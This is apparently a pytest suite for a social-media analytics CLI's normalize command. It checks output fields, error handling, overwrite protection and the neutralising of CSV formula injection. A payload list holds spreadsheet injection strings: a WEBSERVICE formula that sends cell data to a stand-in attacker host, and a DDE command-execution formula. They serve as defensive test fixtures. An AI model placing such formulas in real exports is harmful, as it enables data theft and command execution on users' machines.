"""`kpixl normalize` through click's test runner: output content, summary, errors and atomic writes."""

from __future__ import annotations

import csv

from kpixl.catalog.fields import DAILY_FIELDS, POST_FIELDS


def _read(path):
    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_normalize_mixed_exports(tmp_path, exports, run_kpixl):
    out = tmp_path / "posts.csv"
    result = run_kpixl("normalize", str(exports / "instagram_posts_en.csv"), str(exports / "linkedin_content.xlsx"),
                       str(exports / "meta_daily_follows.csv"), "-o", str(out))
    assert result.exit_code == 0, result.output
    assert "instagram_posts (posts), 5 rows" in result.output
    assert "linkedin_metrics (daily), 3 rows" in result.output
    posts = _read(out)
    assert list(posts[0]) == list(POST_FIELDS)
    assert len(posts) == 8
    assert posts[0]["published_at"] == "2025-03-01T09:30:00" and posts[0]["impressions"] == "2150"
    assert posts[0]["text"] == "Spring launch 🌸\r\nLine two of the caption, with a comma"
    assert posts[2]["impressions"] == ""  # missing stays missing
    daily = _read(tmp_path / "posts_daily.csv")
    assert list(daily[0]) == list(DAILY_FIELDS)
    assert {(d["network"], d["date"]) for d in daily} >= {("linkedin", "2025-03-02"), ("facebook", "2025-08-01")}


def test_unknown_headers_are_printed(tmp_path, exports, run_kpixl):
    result = run_kpixl("normalize", str(exports / "facebook_posts_en.csv"), "-o", str(tmp_path / "p.csv"))
    assert result.exit_code == 0
    assert "unknown headers (not imported): New mystery metric" in result.output


def test_rejected_rows_fail_without_writing(tmp_path, exports, run_kpixl):
    out = tmp_path / "posts.csv"
    result = run_kpixl("normalize", str(exports / "instagram_posts_es.csv"), "-o", str(out))
    assert result.exit_code == 1
    assert "Error: " in result.stderr
    assert "instagram_posts_es.csv, row 4, column 'Me gusta'" in result.stderr
    assert not out.exists() and list(tmp_path.iterdir()) == []


def test_skip_bad_rows_writes_the_rest(tmp_path, exports, run_kpixl):
    out = tmp_path / "posts.csv"
    result = run_kpixl("normalize", str(exports / "instagram_posts_es.csv"), "-o", str(out), "--skip-bad-rows")
    assert result.exit_code == 0
    assert "rejected: " in result.output
    assert len(_read(out)) == 3


def test_bad_file_is_one_error_line(tmp_path, run_kpixl):
    junk = tmp_path / "junk.csv"
    junk.write_bytes(b"\x00\x01\x02binary\xff" * 50)
    out = tmp_path / "posts.csv"
    result = run_kpixl("normalize", str(junk), "-o", str(out))
    assert result.exit_code == 1
    assert result.stderr.startswith(f"Error: {junk}")
    assert "Traceback" not in result.output and not out.exists()


def test_year_mapping_and_format_options(tmp_path, exports, run_kpixl):
    out = tmp_path / "out.csv"
    result = run_kpixl("normalize", str(exports / "tiktok_overview.csv"), str(exports / "generic.csv"),
                       "--year", "2026", "--mapping", str(exports / "generic_mapping.toml"), "-o", str(out))
    assert result.exit_code == 0, result.output
    assert [p["likes"] for p in _read(out)] == ["1234", "98", ""]
    assert _read(tmp_path / "out_daily.csv")[3]["date"] == "2026-01-01"
    result = run_kpixl("normalize", str(exports / "x_content.csv"), "--format", "nope", "-o", str(out))
    assert result.exit_code == 2


def test_output_that_kpixl_did_not_write_is_refused_unless_forced(tmp_path, exports, run_kpixl):
    client = tmp_path / "report.csv"
    client.write_text("Client,Budget\nACME,1000\n", encoding="utf-8")
    args = [str(exports / "x_content.csv"), "-o", str(client)]
    refused = run_kpixl("normalize", *args)
    assert refused.exit_code == 1 and "was not written by kpixl" in refused.output and "--force" in refused.output
    assert client.read_text(encoding="utf-8") == "Client,Budget\nACME,1000\n"
    again = run_kpixl("normalize", *args, "--force")
    assert again.exit_code == 0, again.output
    assert _read(client)[0]["network"] == "x"
    rerun = run_kpixl("normalize", *args)  # kpixl's own output is replaced without --force
    assert rerun.exit_code == 0, rerun.output


def test_output_named_like_a_workbook_is_refused(tmp_path, exports, run_kpixl):
    workbook = tmp_path / "report.xlsx"
    workbook.write_bytes(b"PK\x03\x04 client workbook")
    result = run_kpixl("normalize", str(exports / "x_content.csv"), "-o", str(workbook), "--force")
    assert result.exit_code == 1 and ".csv" in result.output
    assert workbook.read_bytes() == b"PK\x03\x04 client workbook"


PAYLOADS = ['=WEBSERVICE("http://evil.example/?"&A1)', "+1+1", "-2+3", "@SUM(1)", "\tTab", "\rCR",
            '=cmd|" /C calc"!A0', "plain text", "-", "a=b"]


def test_csv_neutralises_formula_like_text(tmp_path, run_kpixl):
    export = tmp_path / "account_analytics_content.csv"
    with open(export, "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle, quoting=csv.QUOTE_ALL)
        writer.writerow(["Post id", "Date", "Post text", "Impressions"])
        writer.writerows([i, "2026-07-14", text, i] for i, text in enumerate(PAYLOADS, 1))
    out = tmp_path / "posts.csv"
    result = run_kpixl("normalize", str(export), "-o", str(out))
    assert result.exit_code == 0, result.output
    texts = [row["text"] for row in _read(out)]
    assert texts[:7] == ["'" + p for p in PAYLOADS[:7]]
    assert texts[7:] == ["plain text", "'-", "a=b"]  # "a=b" starts harmlessly
    from kpixl.sources import read_export

    assert [r["text"] for r in read_export(out).rows][:7] == PAYLOADS[:7]  # kpixl reads its own CSV back exactly
    raw = tmp_path / "raw.csv"
    result = run_kpixl("normalize", str(export), "-o", str(raw), "--raw-text")
    assert result.exit_code == 0 and _read(raw)[0]["text"] == PAYLOADS[0]


def test_csv_opened_by_libreoffice_runs_no_formula(tmp_path, run_kpixl):
    """The real check: LibreOffice Calc opens the neutralised CSV and every payload is text, not a result."""
    from tests.libreoffice import require_soffice

    require_soffice()
    from tests.libreoffice import convert

    export = tmp_path / "account_analytics_content.csv"
    lines = ["Post id,Date,Post text,Impressions", '1,2026-07-14,"=1+1",5', '2,2026-07-14,"+2+2",6']
    export.write_text("\n".join(lines) + "\n", encoding="utf-8")
    out = tmp_path / "posts.csv"
    assert run_kpixl("normalize", str(export), "-o", str(out)).exit_code == 0
    xlsx = convert(out, tmp_path / "lo")
    from python_calamine import CalamineWorkbook

    book = CalamineWorkbook.from_path(str(xlsx))
    rows = book.get_sheet_by_name(book.sheet_names[0]).to_python()
    column = rows[0].index("text")
    assert [row[column] for row in rows[1:]] == ["'=1+1", "'+2+2"] or [row[column] for row in rows[1:]] == [
        "=1+1", "+2+2"
    ]


def test_summary_says_what_a_file_does_not_report(tmp_path, exports, run_kpixl):
    out = tmp_path / "posts.csv"
    result = run_kpixl("normalize", str(exports / "tiktok_content_time.csv"), "-o", str(out))
    assert result.exit_code == 0, result.output
    assert "not reported by this file (left blank): " in result.output and "saves" in result.output
    assert "engagements = likes + comments + shares: this file does not report saves" in result.output
